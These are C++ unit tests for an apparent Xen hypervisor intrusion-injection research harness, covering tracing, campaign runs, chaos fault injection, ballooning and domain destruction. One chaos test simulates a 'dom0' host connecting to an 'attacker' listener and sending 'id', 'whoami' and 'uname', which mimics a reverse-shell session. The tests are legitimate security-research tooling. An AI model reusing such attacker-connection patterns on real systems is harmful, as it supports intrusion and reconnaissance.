  EXPECT_EQ(events[0].category, TraceCategory::HypercallEnter);
  EXPECT_EQ(events[0].seq, 0u);
}

TEST(TraceSink, SequenceNumbersAreGaplessAcrossMaskedEmits) {
  TraceSink sink{16, category_bit(TraceCategory::HypercallExit)};
  sink.emit(TraceCategory::HypercallEnter, 1, 1);  // seq 0, masked out
  sink.emit(TraceCategory::HypercallExit, 1, 1);   // seq 1, recorded
  sink.emit(TraceCategory::HypercallEnter, 1, 1);  // seq 2, masked out
  sink.emit(TraceCategory::HypercallExit, 1, 1);   // seq 3, recorded
  const auto events = sink.ring().snapshot();
  ASSERT_EQ(events.size(), 2u);
  // The sequence counter names the emit, not the ring slot: masked events
  // leave visible gaps, keeping cross-mask traces comparable.
  EXPECT_EQ(events[0].seq, 1u);
  EXPECT_EQ(events[1].seq, 3u);
}

TEST(TraceSink, ZeroMaskCountsOnly) {
  TraceSink sink{16, 0};
  for (int i = 0; i < 5; ++i) sink.emit(TraceCategory::MmuWalk, kNoDomain);
  EXPECT_EQ(sink.count(TraceCategory::MmuWalk), 5u);
  EXPECT_EQ(sink.ring().size(), 0u);
}

TEST(TraceSink, PerHypercallCountersSumToEnterEvents) {
  TraceSink sink;
  sink.emit(TraceCategory::HypercallEnter, 1, 1);
  sink.emit(TraceCategory::HypercallExit, 1, 1);
  sink.emit(TraceCategory::HypercallEnter, 1, 1);
  sink.emit(TraceCategory::HypercallExit, 1, 1);
  sink.emit(TraceCategory::HypercallEnter, 2, 12);
  sink.emit(TraceCategory::HypercallExit, 2, 12, -22);

  EXPECT_EQ(sink.hypercall_count(1), 2u);
  EXPECT_EQ(sink.hypercall_count(12), 1u);
  std::uint64_t total = 0;
  for (const std::uint64_t n : sink.hypercall_counts()) total += n;
  EXPECT_EQ(total, sink.count(TraceCategory::HypercallEnter));
}

TEST(TraceSink, OutOfRangeHypercallNrIsSafe) {
  TraceSink sink;
  sink.emit(TraceCategory::HypercallEnter, 1, TraceSink::kMaxHypercallNr + 7);
  EXPECT_EQ(sink.count(TraceCategory::HypercallEnter), 1u);
  EXPECT_EQ(sink.hypercall_count(TraceSink::kMaxHypercallNr + 7), 0u);
}

TEST(TraceCategoryNames, StableStrings) {
  EXPECT_EQ(to_string(TraceCategory::HypercallEnter), "hypercall_enter");
  EXPECT_EQ(to_string(TraceCategory::Panic), "panic");
  EXPECT_EQ(to_string(TraceCategory::GrantOp), "grant_op");
  EXPECT_EQ(to_string(TraceCategory::EventChannel), "event_channel");
}

TEST(TraceCategoryMask, BitsAreDistinctAndCovered) {
  std::uint32_t seen = 0;
  for (std::size_t c = 0; c < kCategoryCount; ++c) {
    const std::uint32_t bit = category_bit(static_cast<TraceCategory>(c));
    EXPECT_EQ(seen & bit, 0u);
    seen |= bit;
  }
  EXPECT_EQ(seen, kAllCategories);
}

}  // namespace
}  // namespace ii::obs
