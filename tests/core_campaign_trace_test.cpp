// Campaign-level observability: per-cell traces, hypercall pairing,
// deterministic sequence numbers under run_parallel, and the CSV columns.
#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "core/campaign.hpp"
#include "core/report.hpp"
#include "obs/span.hpp"
#include "obs/status.hpp"

namespace ii::core {
namespace {

/// Deterministic probe: a fixed little hypercall workload per attempt so
/// traces are predictable — a console write, a grant cycle, an event send,
/// and a balloon round-trip.
class TraceProbeCase : public UseCase {
 public:
  [[nodiscard]] std::string name() const override { return "trace-probe"; }
  [[nodiscard]] IntrusionModel model() const override { return {}; }

  CaseOutcome run_exploit(guest::VirtualPlatform& platform) override {
    return drive(platform);
  }
  CaseOutcome run_injection(guest::VirtualPlatform& platform) override {
    return drive(platform);
  }
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform&) const override {
    return false;
  }
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform&) const override {
    return false;
  }

 private:
  static CaseOutcome drive(guest::VirtualPlatform& platform) {
    guest::GuestKernel& g = platform.guest(0);
    CaseOutcome outcome;
    outcome.rc = g.console_write("probe");
    (void)g.grant_set_version(2);
    (void)g.grant_set_version(1);
    unsigned port = 0;
    (void)g.evtchn_alloc_unbound(hv::kDom0, &port);
    const auto pfn = g.alloc_pfn();
    (void)g.unmap_pfn(*pfn);
    (void)g.decrease_reservation(*pfn);
    (void)g.populate_physmap(*pfn);
    outcome.completed = true;
    return outcome;
  }
};

CampaignConfig small_config(bool capture) {
  CampaignConfig config;
  config.versions = {hv::kXen46, hv::kXen413};
  config.modes = {Mode::Exploit, Mode::Injection};
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  config.platform.n_guests = 1;
  config.capture_trace = capture;
  return config;
}

std::vector<std::unique_ptr<UseCase>> probe_cases() {
  std::vector<std::unique_ptr<UseCase>> cases;
  cases.push_back(std::make_unique<TraceProbeCase>());
  return cases;
}

TEST(CampaignTrace, EveryCellPairsEnterAndExitInOrder) {
  const Campaign campaign{small_config(/*capture=*/true)};
  const auto results = campaign.run(probe_cases());
  ASSERT_EQ(results.size(), 4u);
  for (const CellResult& cell : results) {
    ASSERT_FALSE(cell.trace.empty());
    std::uint64_t enters = 0;
    std::uint64_t exits = 0;
    std::uint64_t last_seq = 0;
    bool first = true;
    int depth = 0;
    for (const obs::TraceEvent& event : cell.trace) {
      if (!first) {
        EXPECT_GT(event.seq, last_seq);
      }
      first = false;
      last_seq = event.seq;
      if (event.category == obs::TraceCategory::HypercallEnter) {
        // Hypercalls never nest in this model: each Enter is closed by an
        // Exit before the next dispatch.
        EXPECT_EQ(depth, 0);
        ++depth;
        ++enters;
      } else if (event.category == obs::TraceCategory::HypercallExit) {
        EXPECT_EQ(depth, 1);
        --depth;
        ++exits;
      }
    }
    EXPECT_EQ(depth, 0);
    EXPECT_GE(enters, 1u);
    EXPECT_EQ(enters, exits);
    EXPECT_EQ(enters, cell.hypercalls);
  }
}

TEST(CampaignTrace, PerNrCountersSumToEnterEvents) {
  const Campaign campaign{small_config(/*capture=*/false)};
  const auto results = campaign.run(probe_cases());
  for (const CellResult& cell : results) {
    // capture off: counters still collected, ring stays empty.
    EXPECT_TRUE(cell.trace.empty());
    EXPECT_GE(cell.hypercalls, 1u);
    std::uint64_t per_nr = 0;
    for (const auto& [name, value] : cell.metrics.counters) {
      if (name.rfind("hypercall.nr", 0) == 0) per_nr += value;
    }
    EXPECT_EQ(per_nr, cell.metrics.counter("trace.hypercall_enter"));
    EXPECT_EQ(per_nr, cell.hypercalls);
  }
}

TEST(CampaignTrace, ParallelTracesMatchSerialByCell) {
  const Campaign campaign{small_config(/*capture=*/true)};
  const auto serial = campaign.run(probe_cases());
  const auto parallel1 = campaign.run_parallel(probe_cases, 1);
  const auto parallel4 = campaign.run_parallel(probe_cases, 4);

  ASSERT_EQ(serial.size(), parallel1.size());
  ASSERT_EQ(serial.size(), parallel4.size());
  for (std::size_t i = 0; i < serial.size(); ++i) {
    for (const auto* run : {&parallel1[i], &parallel4[i]}) {
      EXPECT_EQ(serial[i].use_case, run->use_case);
      EXPECT_EQ(serial[i].version, run->version);
      EXPECT_EQ(serial[i].mode, run->mode);
      EXPECT_EQ(serial[i].hypercalls, run->hypercalls);
      EXPECT_EQ(serial[i].metrics.counters, run->metrics.counters);
      // Per-cell sinks restart seq at 0, so the trace is byte-identical
      // regardless of worker count and scheduling.
      ASSERT_EQ(serial[i].trace.size(), run->trace.size());
      for (std::size_t e = 0; e < serial[i].trace.size(); ++e) {
        EXPECT_EQ(serial[i].trace[e].seq, run->trace[e].seq);
        EXPECT_EQ(serial[i].trace[e].category, run->trace[e].category);
        EXPECT_EQ(serial[i].trace[e].domain, run->trace[e].domain);
        EXPECT_EQ(serial[i].trace[e].code, run->trace[e].code);
        EXPECT_EQ(serial[i].trace[e].rc, run->trace[e].rc);
      }
    }
  }
}

TEST(CampaignTrace, CsvCarriesTimingColumns) {
  const Campaign campaign{small_config(/*capture=*/false)};
  const auto results = campaign.run(probe_cases());
  const std::string csv = render_csv(results);
  EXPECT_NE(csv.find(",wall_us,hypercalls,attempts,recovered,quarantined\n"),
            std::string::npos);
  // Each data row carries the cell's hypercall count (nonzero), now four
  // columns from the end (before attempts,recovered,quarantined).
  std::istringstream lines{csv};
  std::string line;
  std::getline(lines, line);  // header
  std::size_t rows = 0;
  while (std::getline(lines, line)) {
    std::vector<std::string> fields;
    std::istringstream row{line};
    std::string field;
    while (std::getline(row, field, ',')) fields.push_back(field);
    ASSERT_GE(fields.size(), 4u);
    EXPECT_GE(std::stoull(fields[fields.size() - 4]), 1u);
    ++rows;
  }
  EXPECT_EQ(rows, results.size());
}

TEST(CampaignTrace, MetricsSummaryRendersCounters) {
  const Campaign campaign{small_config(/*capture=*/false)};
  const auto results = campaign.run(probe_cases());
  obs::MetricsRegistry aggregate;
  for (const auto& cell : results) aggregate.merge(cell.metrics);
  const std::string summary = render_metrics_summary(aggregate.snapshot());
  EXPECT_NE(summary.find("trace.hypercall_enter"), std::string::npos);
  EXPECT_NE(summary.find("Counter"), std::string::npos);
}

TEST(CampaignWarmReuse, WarmAndColdCellsAgreeOnEverythingObservable) {
  // Warm platform reuse is a pure setup optimization: verdicts, hypercall
  // counts and traces must match a campaign that boots every cell cold.
  auto warm_config = small_config(/*capture=*/true);
  warm_config.reuse_platforms = true;
  auto cold_config = warm_config;
  cold_config.reuse_platforms = false;

  const auto warm = Campaign{warm_config}.run(probe_cases());
  const auto cold = Campaign{cold_config}.run(probe_cases());
  ASSERT_EQ(warm.size(), cold.size());
  for (std::size_t i = 0; i < warm.size(); ++i) {
    EXPECT_EQ(warm[i].err_state, cold[i].err_state) << i;
    EXPECT_EQ(warm[i].violation, cold[i].violation) << i;
    EXPECT_EQ(warm[i].outcome.completed, cold[i].outcome.completed) << i;
    EXPECT_EQ(warm[i].outcome.rc, cold[i].outcome.rc) << i;
    EXPECT_EQ(warm[i].failure, cold[i].failure) << i;
    // Boot issues no hypercalls through the dispatch table, so the count
    // matches even though the cold cell's sink observed the boot.
    EXPECT_EQ(warm[i].hypercalls, cold[i].hypercalls) << i;
  }
}

TEST(CampaignWarmReuse, SecondCellOnSameConfigIsAReuseHit) {
  // Two probe cases × one version × one mode: the second cell leases the
  // platform the first cell warmed up, and pays only a delta restore.
  auto config = small_config(/*capture=*/false);
  config.versions = {hv::kXen46};
  config.modes = {Mode::Exploit};
  const Campaign campaign{config};

  std::vector<std::unique_ptr<UseCase>> cases;
  cases.push_back(std::make_unique<TraceProbeCase>());
  cases.push_back(std::make_unique<TraceProbeCase>());
  const auto results = campaign.run(cases);
  ASSERT_EQ(results.size(), 2u);

  const auto counter = [](const CellResult& cell, const char* name) {
    const auto it = cell.metrics.counters.find(name);
    return it == cell.metrics.counters.end() ? std::uint64_t{0} : it->second;
  };
  EXPECT_EQ(counter(results[0], "cell.reuse_hits"), 0u);
  EXPECT_EQ(counter(results[1], "cell.reuse_hits"), 1u);
  // The probe dirties frames (console ring, balloon churn), so the release
  // rewind copies some — but far fewer than the whole 8192-frame machine.
  for (const auto& cell : results) {
    const std::uint64_t copied = counter(cell, "snapshot.frames_copied");
    EXPECT_GT(copied, 0u);
    EXPECT_LT(copied, config.platform.machine_frames / 4);
  }
  // Identical cells on the same pooled platform dirty the identical frame
  // set: the rewind cost is a property of the cell, not of pool history.
  EXPECT_EQ(counter(results[0], "snapshot.frames_copied"),
            counter(results[1], "snapshot.frames_copied"));
}

TEST(CampaignProfile, SpanTreeCoversTheCellLifecycle) {
  auto config = small_config(/*capture=*/false);
  obs::SpanProfiler prof;
  config.profiler = &prof;
  const auto results = Campaign{config}.run(probe_cases());
  ASSERT_EQ(results.size(), 4u);
  const obs::SpanNode& root = prof.root();
  ASSERT_NE(root.children.find("cell"), root.children.end());
  const obs::SpanNode& cell = *root.children.at("cell");
  EXPECT_EQ(cell.count, results.size());
  for (const char* phase : {"acquire", "restore", "inject", "monitor"}) {
    ASSERT_NE(cell.children.find(phase), cell.children.end()) << phase;
  }
  // Injection drove real hypercalls; their deterministic step counts land
  // on the inject span via the trace-sink delta.
  EXPECT_GT(cell.children.at("inject")->steps, 0u);
  EXPECT_EQ(cell.children.at("inject")->count, results.size());
}

TEST(CampaignProfile, MergedParallelProfileMatchesSerial) {
  // run_parallel records into per-worker lane profilers and merges after
  // join; the aggregated deterministic render must equal a serial run's,
  // at any worker count.
  auto serial_config = small_config(/*capture=*/false);
  obs::SpanProfiler serial_prof;
  serial_config.profiler = &serial_prof;
  (void)Campaign{serial_config}.run(probe_cases());
  const std::string baseline = render_profile(serial_prof);
  for (const unsigned workers : {1u, 3u}) {
    auto config = small_config(/*capture=*/false);
    obs::SpanProfiler prof;
    config.profiler = &prof;
    (void)Campaign{config}.run_parallel(probe_cases, workers);
    EXPECT_EQ(baseline, render_profile(prof)) << "workers=" << workers;
  }
}

TEST(CampaignProfile, StatusBoardSeesTheWholeMatrix) {
  auto config = small_config(/*capture=*/false);
  obs::StatusBoard board;
  config.status = &board;
  const auto results = Campaign{config}.run_parallel(probe_cases, 2);
  const obs::StatusSnapshot s = board.snapshot();
  EXPECT_FALSE(s.campaign_active);  // campaign_end() ran
  EXPECT_EQ(s.cells_total, results.size());
  EXPECT_EQ(s.cells_done, results.size());
  ASSERT_EQ(s.worker_heartbeat.size(), 2u);
  std::uint64_t heartbeat_sum = 0;
  for (const std::uint64_t h : s.worker_heartbeat) heartbeat_sum += h;
  EXPECT_EQ(heartbeat_sum, results.size());
}

}  // namespace
}  // namespace ii::core
