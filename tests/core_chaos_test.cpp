// Chaos engine: deterministic fault scheduling, plan parsing, the point
// registry, and the harness's behavior under injected faults at every
// layer — journal writes, cell setup, supervisor workers, recovery phases
// and the network simulator.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "core/chaos.hpp"
#include "core/journal.hpp"
#include "core/report.hpp"
#include "core/supervisor.hpp"
#include "net/network.hpp"
#include "xsa/usecases.hpp"

namespace ii {
namespace {

using core::ChaosEngine;
using core::ChaosScope;

guest::PlatformConfig small_platform() {
  guest::PlatformConfig pc{};
  pc.machine_frames = 16384;
  pc.dom0_pages = 256;
  pc.guest_pages = 128;
  return pc;
}

core::CampaignConfig small_config() {
  core::CampaignConfig config{};
  config.platform = small_platform();
  config.logical_time = true;  // byte-identical CSV across runs/threads
  return config;
}

std::vector<std::unique_ptr<core::UseCase>> one_real_case() {
  std::vector<std::unique_ptr<core::UseCase>> cases;
  for (auto& c : xsa::make_paper_use_cases()) {
    if (c->name() == "XSA-212-priv") cases.push_back(std::move(c));
  }
  return cases;
}

// ------------------------------------------------------------------ engine

TEST(ChaosEngine, SameSeedAndPlanProduceByteIdenticalSchedules) {
  const auto drive = [](std::uint64_t seed) {
    ChaosEngine engine{seed, core::parse_chaos_plan("journal.torn=500")};
    for (int i = 0; i < 64; ++i) (void)engine.fire("journal.torn");
    return engine.schedule_log();
  };
  const std::string a = drive(42);
  EXPECT_EQ(a, drive(42));
  EXPECT_NE(a, drive(43));
  // The schedule is non-trivial: a 500-permille coin over 64 occurrences
  // fires somewhere strictly between never and always.
  ChaosEngine probe{42, core::parse_chaos_plan("journal.torn=500")};
  for (int i = 0; i < 64; ++i) (void)probe.fire("journal.torn");
  EXPECT_GT(probe.fired("journal.torn"), 0u);
  EXPECT_LT(probe.fired("journal.torn"), 64u);
}

TEST(ChaosEngine, ExplicitOccurrencesFireExactlyThere) {
  ChaosEngine engine{7, core::parse_chaos_plan("worker.crash@2,worker.crash@5")};
  std::vector<std::uint64_t> hits;
  for (std::uint64_t occ = 1; occ <= 8; ++occ) {
    if (engine.fire("worker.crash")) hits.push_back(occ);
  }
  EXPECT_EQ(hits, (std::vector<std::uint64_t>{2, 5}));
  EXPECT_EQ(engine.fired("worker.crash"), 2u);
  EXPECT_EQ(engine.total_fired(), 2u);
}

TEST(ChaosEngine, RateZeroAndUnplannedPointsNeverFire) {
  ChaosEngine engine{1, core::parse_chaos_plan("net.drop=1000")};
  for (int i = 0; i < 16; ++i) {
    EXPECT_TRUE(engine.fire("net.drop"));       // rate 1000 = always
    EXPECT_FALSE(engine.fire("worker.crash"));  // not in the plan
  }
  engine.disable("net.drop");
  for (int i = 0; i < 16; ++i) EXPECT_FALSE(engine.fire("net.drop"));
  EXPECT_EQ(engine.fired("net.drop"), 16u);
}

TEST(ChaosEngine, NoInstalledEngineMeansNoFaults) {
  ASSERT_EQ(ChaosEngine::instance(), nullptr);
  EXPECT_FALSE(core::chaos_fire("worker.crash"));
  EXPECT_FALSE(core::chaos_fire("not.even.registered"));
}

TEST(ChaosEngine, DyingEngineDisarmsItself) {
  {
    ChaosEngine engine{3, core::parse_chaos_plan("net.drop=1000")};
    ChaosEngine::install(&engine);
    EXPECT_TRUE(core::chaos_fire("net.drop"));
  }
  EXPECT_EQ(ChaosEngine::instance(), nullptr);
  EXPECT_FALSE(core::chaos_fire("net.drop"));
}

TEST(ChaosPlan, ParserRejectsGarbageAndUnknownPoints) {
  EXPECT_THROW((void)core::parse_chaos_plan("nosuch.point=10"),
               std::invalid_argument);
  EXPECT_THROW((void)core::parse_chaos_plan("worker.crash"),
               std::invalid_argument);
  EXPECT_THROW((void)core::parse_chaos_plan("worker.crash=2000"),
               std::invalid_argument);
  EXPECT_THROW((void)core::parse_chaos_plan("worker.crash@0"),
               std::invalid_argument);
  EXPECT_THROW((void)core::parse_chaos_plan("worker.crash=abc"),
               std::invalid_argument);

  const auto plan =
      core::parse_chaos_plan("journal.torn=5,worker.crash@3,worker.crash@1");
  EXPECT_EQ(plan.at("journal.torn").rate_permille, 5u);
  EXPECT_EQ(plan.at("worker.crash").fire_at,
            (std::vector<std::uint64_t>{1, 3}));
}

TEST(ChaosRegistry, EveryPointIsNamedAndDescribed) {
  const auto points = core::registered_chaos_points();
  EXPECT_GE(points.size(), 11u);
  for (const auto name : points) {
    EXPECT_FALSE(core::chaos_point_description(name).empty()) << name;
  }
  EXPECT_TRUE(core::chaos_point_description("nosuch.point").empty());
}

// ----------------------------------------------------------------- journal

std::string temp_path(const std::string& name) {
  return ::testing::TempDir() + "chaos_" + name + ".jsonl";
}

core::CellResult sample_cell(unsigned n) {
  core::CellResult cell;
  cell.use_case = "CASE-" + std::to_string(n);
  cell.version = hv::kXen48;
  cell.mode = core::Mode::Exploit;
  cell.outcome.completed = true;
  return cell;
}

TEST(JournalChecksum, CorruptedBytesAreDetectedAndSkipped) {
  const core::CellResult cell = sample_cell(1);
  std::string line = core::journal_line(cell);
  ASSERT_TRUE(core::parse_journal_entry(line).has_value());
  // Flip one byte inside a value: the structure still parses, the
  // checksum must not.
  const std::size_t pos = line.find("CASE-1");
  ASSERT_NE(pos, std::string::npos);
  line[pos] = 'X';
  EXPECT_FALSE(core::parse_journal_entry(line).has_value());
  // Legacy lines without a crc field still load (old journals resume).
  EXPECT_TRUE(core::parse_journal_entry(core::journal_entry(cell)).has_value());
}

TEST(JournalWriter, ChaosWriteFaultsAreCountedAndSkippedOnLoad) {
  const std::string path = temp_path("writer");
  ChaosEngine engine{
      11, core::parse_chaos_plan("journal.write_fail@2,journal.torn@3")};
  const ChaosScope scope{engine};

  core::JournalWriter writer;
  writer.open(path, "header-line");
  ASSERT_TRUE(writer.is_open());
  // Occurrences count per point: write_fail sees every append; torn only
  // the appends write_fail let through (short-circuit), so torn@3 is the
  // third *surviving* append — append 4 here.
  EXPECT_TRUE(writer.append(sample_cell(1)));   // lands intact
  EXPECT_FALSE(writer.append(sample_cell(2)));  // lost entirely
  EXPECT_TRUE(writer.append(sample_cell(3)));   // lands intact
  EXPECT_FALSE(writer.append(sample_cell(4)));  // torn mid-line
  EXPECT_TRUE(writer.append(sample_cell(5)));   // lands intact
  EXPECT_EQ(writer.errors(), 2u);

  const core::JournalLoad load = core::load_journal(path, "header-line");
  ASSERT_EQ(load.cells.size(), 3u);
  EXPECT_EQ(load.cells[0].use_case, "CASE-1");
  EXPECT_EQ(load.cells[1].use_case, "CASE-3");
  EXPECT_EQ(load.cells[2].use_case, "CASE-5");
  EXPECT_EQ(load.skipped, 1u);  // the torn line; the lost one left no trace
  std::remove(path.c_str());
}

// -------------------------------------------------- faults under the stack

TEST(ChaosFaults, CellAllocFailureIsContainedAndRetried) {
  auto config = small_config();
  config.versions = {hv::kXen48};
  config.modes = {core::Mode::Injection};
  core::SupervisorConfig supervision{};
  supervision.max_attempts = 2;
  supervision.retry_backoff_us = 10;  // exercise the backoff path too

  // Fault-free reference first (no engine installed).
  const auto clean =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);
  ASSERT_EQ(clean.size(), 1u);
  ASSERT_FALSE(clean[0].failed());

  // First attempt's allocation fails; the retry rung clears it.
  ChaosEngine engine{5, core::parse_chaos_plan("cell.alloc_fail@1")};
  const ChaosScope scope{engine};
  const auto faulted =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);
  ASSERT_EQ(faulted.size(), 1u);
  EXPECT_FALSE(faulted[0].failed()) << faulted[0].failure;
  EXPECT_EQ(faulted[0].attempts, 2u);
  EXPECT_EQ(engine.fired("cell.alloc_fail"), 1u);
  // The retried cell reports the same verdict as the fault-free run.
  EXPECT_EQ(faulted[0].err_state, clean[0].err_state);
  EXPECT_EQ(faulted[0].violation, clean[0].violation);
  EXPECT_EQ(faulted[0].wall_us, clean[0].wall_us);
}

TEST(ChaosFaults, WorkerCrashReleasesTheClaimAndTheCampaignCompletes) {
  auto config = small_config();
  core::SupervisorConfig supervision{};

  const auto factory = [] {
    auto cases = xsa::make_paper_use_cases();
    cases.resize(2);  // two use cases, 12 cells
    return cases;
  };
  const auto clean =
      core::CampaignSupervisor{config, supervision}.run(factory);
  const std::string clean_csv = core::render_csv(clean);

  // Both the single worker's first two claims crash; the respawn rounds
  // must re-claim and finish every cell with identical results.
  ChaosEngine engine{9,
                     core::parse_chaos_plan("worker.crash@1,worker.crash@2")};
  const ChaosScope scope{engine};
  const auto faulted =
      core::CampaignSupervisor{config, supervision}.run(factory);
  EXPECT_EQ(engine.fired("worker.crash"), 2u);
  ASSERT_EQ(faulted.size(), clean.size());
  EXPECT_EQ(core::render_csv(faulted), clean_csv);
  EXPECT_EQ(faulted.front().metrics.counters.at("supervisor.worker_crashes"),
            2u);
}

TEST(ChaosFaults, CrashLoopingPlanStillTerminates) {
  auto config = small_config();
  config.versions = {hv::kXen48};
  core::SupervisorConfig supervision{};
  supervision.threads = 2;

  // Every claim crashes until the supervisor's backstop disables the
  // point; the campaign must still finish with correct results.
  ChaosEngine engine{13, core::parse_chaos_plan("worker.crash=1000")};
  const ChaosScope scope{engine};
  const auto results =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);
  ASSERT_EQ(results.size(), 2u);
  for (const auto& cell : results) {
    EXPECT_FALSE(cell.failed()) << cell.failure;
  }
  EXPECT_GT(engine.fired("worker.crash"), 0u);
}

TEST(ChaosFaults, WorkerStallOnlyCostsTime) {
  auto config = small_config();
  config.versions = {hv::kXen48};
  core::SupervisorConfig supervision{};
  const auto clean =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);

  ChaosEngine engine{17, core::parse_chaos_plan("worker.stall@1")};
  const ChaosScope scope{engine};
  const auto stalled =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);
  EXPECT_EQ(engine.fired("worker.stall"), 1u);
  EXPECT_EQ(core::render_csv(stalled), core::render_csv(clean));
}

TEST(ChaosFaults, RecoveryAbortLeavesTheCellUnrecovered) {
  auto config = small_config();
  config.versions = {hv::kXen48};
  config.modes = {core::Mode::Injection};
  config.attempt_recovery = true;
  config.max_cell_hypercalls = 3;  // trip the budget so recovery runs
  core::SupervisorConfig supervision{};

  const auto clean =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);
  ASSERT_EQ(clean.size(), 1u);
  ASSERT_TRUE(clean[0].failed());
  ASSERT_TRUE(clean[0].recovered);  // recovery normally succeeds

  ChaosEngine engine{21, core::parse_chaos_plan("recover.abort@1")};
  const ChaosScope scope{engine};
  const auto aborted =
      core::CampaignSupervisor{config, supervision}.run(one_real_case);
  ASSERT_EQ(aborted.size(), 1u);
  EXPECT_EQ(engine.fired("recover.abort"), 1u);
  EXPECT_FALSE(aborted[0].recovered);
  bool noted = false;
  for (const auto& note : aborted[0].outcome.notes) {
    if (note.find("recovery failed") != std::string::npos) noted = true;
  }
  EXPECT_TRUE(noted);
}

TEST(ChaosFaults, SimNetworkDropAndPartition) {
  net::Network net;
  net.add_host("attacker").listen(1234);
  net.add_host("dom0");

  ChaosEngine engine{25,
                     core::parse_chaos_plan("net.drop@2,net.partition@1")};
  const ChaosScope scope{engine};

  // First connect hits the partition; the retry goes through.
  EXPECT_EQ(net.connect("dom0", "attacker", 1234), nullptr);
  const auto conn = net.connect("dom0", "attacker", 1234);
  ASSERT_NE(conn, nullptr);

  conn->send(net::Endpoint::Client, "id");     // occurrence 1: delivered
  conn->send(net::Endpoint::Client, "whoami");  // occurrence 2: dropped
  conn->send(net::Endpoint::Client, "uname");   // occurrence 3: delivered
  EXPECT_EQ(conn->pending(net::Endpoint::Server), 2u);
  EXPECT_EQ(conn->dropped(), 1u);
  EXPECT_EQ(*conn->poll(net::Endpoint::Server), "id");
  EXPECT_EQ(*conn->poll(net::Endpoint::Server), "uname");
}

}  // namespace
}  // namespace ii
