// Ballooning (decrease_reservation / populate_physmap) and the management
// interface (domctl destroy with the scrub policy).
#include <gtest/gtest.h>

#include <cstring>

#include "guest/platform.hpp"
#include "hv/audit.hpp"

namespace ii::hv {
namespace {

guest::PlatformConfig small_config(XenVersion version) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return pc;
}

// ------------------------------------------------------------- ballooning

TEST(Ballooning, OutAndBackInRoundTrip) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& g = p.guest(0);
  const auto pfn = g.alloc_pfn();
  const sim::Mfn original = *g.pfn_to_mfn(*pfn);

  ASSERT_EQ(g.unmap_pfn(*pfn), kOk);
  ASSERT_EQ(g.decrease_reservation(*pfn), kOk);
  EXPECT_FALSE(g.pfn_to_mfn(*pfn).has_value());
  EXPECT_EQ(p.hv().frames().info(original).owner, kDomInvalid);

  ASSERT_EQ(g.populate_physmap(*pfn), kOk);
  ASSERT_TRUE(g.pfn_to_mfn(*pfn).has_value());
  ASSERT_EQ(g.map_pfn(*pfn), kOk);
  EXPECT_TRUE(g.write_u64(g.pfn_va(*pfn), 42));
}

TEST(Ballooning, DecreaseRequiresUnmappedPage) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& g = p.guest(0);
  const auto pfn = g.alloc_pfn();
  EXPECT_EQ(g.decrease_reservation(*pfn), kEBUSY);  // still mapped
  EXPECT_EQ(g.decrease_reservation(sim::Pfn{9999}), kEINVAL);
}

TEST(Ballooning, PopulateRequiresEmptySlot) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& g = p.guest(0);
  EXPECT_EQ(g.populate_physmap(sim::Pfn{5}), kEINVAL);  // occupied
  EXPECT_EQ(g.populate_physmap(sim::Pfn{9999}), kEINVAL);
}

TEST(Ballooning, PopulatePrefersRecycledFrames) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& g = p.guest(0);
  const auto pfn = g.alloc_pfn();
  const sim::Mfn original = *g.pfn_to_mfn(*pfn);
  ASSERT_EQ(g.unmap_pfn(*pfn), kOk);
  ASSERT_EQ(g.decrease_reservation(*pfn), kOk);
  ASSERT_EQ(g.populate_physmap(*pfn), kOk);
  // FIFO heap reuse: the frame just returned comes straight back.
  EXPECT_EQ(*g.pfn_to_mfn(*pfn), original);
}

// ---------------------------------------------------------------- domctl

TEST(DomctlDestroy, RequiresPrivilege) {
  guest::VirtualPlatform p{small_config(kXen48)};
  EXPECT_EQ(p.guest(0).domctl_destroy(p.guest(1).id()), kEPERM);
}

TEST(DomctlDestroy, RefusesDom0AndUnknown) {
  guest::VirtualPlatform p{small_config(kXen48)};
  EXPECT_EQ(p.dom0().domctl_destroy(p.dom0().id()), kEINVAL);
  EXPECT_EQ(p.dom0().domctl_destroy(DomainId{99}), kENOENT);
}

TEST(DomctlDestroy, FreesEveryFrameAndDropsTheDomain) {
  guest::VirtualPlatform p{small_config(kXen48)};
  const DomainId victim = p.guest(1).id();
  const sim::Mfn first = *p.guest(1).pfn_to_mfn(sim::Pfn{0});
  const std::uint64_t pages = p.guest(1).nr_pages();

  ASSERT_EQ(p.destroy_guest(1), kOk);
  EXPECT_THROW((void)p.hv().domain(victim), std::out_of_range);
  for (std::uint64_t f = first.raw(); f < first.raw() + pages; ++f) {
    EXPECT_EQ(p.hv().frames().info(sim::Mfn{f}).owner, kDomInvalid) << f;
    EXPECT_EQ(p.hv().frames().info(sim::Mfn{f}).type, PageType::None) << f;
  }
  EXPECT_EQ(p.kernels().size(), 2u);  // dom0 + one guest left
  // Survivors still work and the system still audits clean.
  EXPECT_TRUE(p.guest(0).write_u64(p.guest(0).pfn_va(sim::Pfn{5}), 7));
  EXPECT_TRUE(audit_system(p.hv()).clean());
}

TEST(DomctlDestroy, BlockedWhileForeignGrantMappingsExist) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& granter = p.guest(1);
  const auto pfn = granter.alloc_pfn();
  ASSERT_EQ(granter.grant_access(0, p.guest(0).id(), *pfn, true), kOk);
  GrantHandle handle = 0;
  ASSERT_EQ(p.guest(0).grant_map(granter.id(), 0, &handle, nullptr), kOk);

  EXPECT_EQ(p.dom0().domctl_destroy(granter.id()), kEBUSY);
  ASSERT_EQ(p.guest(0).grant_unmap(handle), kOk);
  EXPECT_EQ(p.destroy_guest(1), kOk);
}

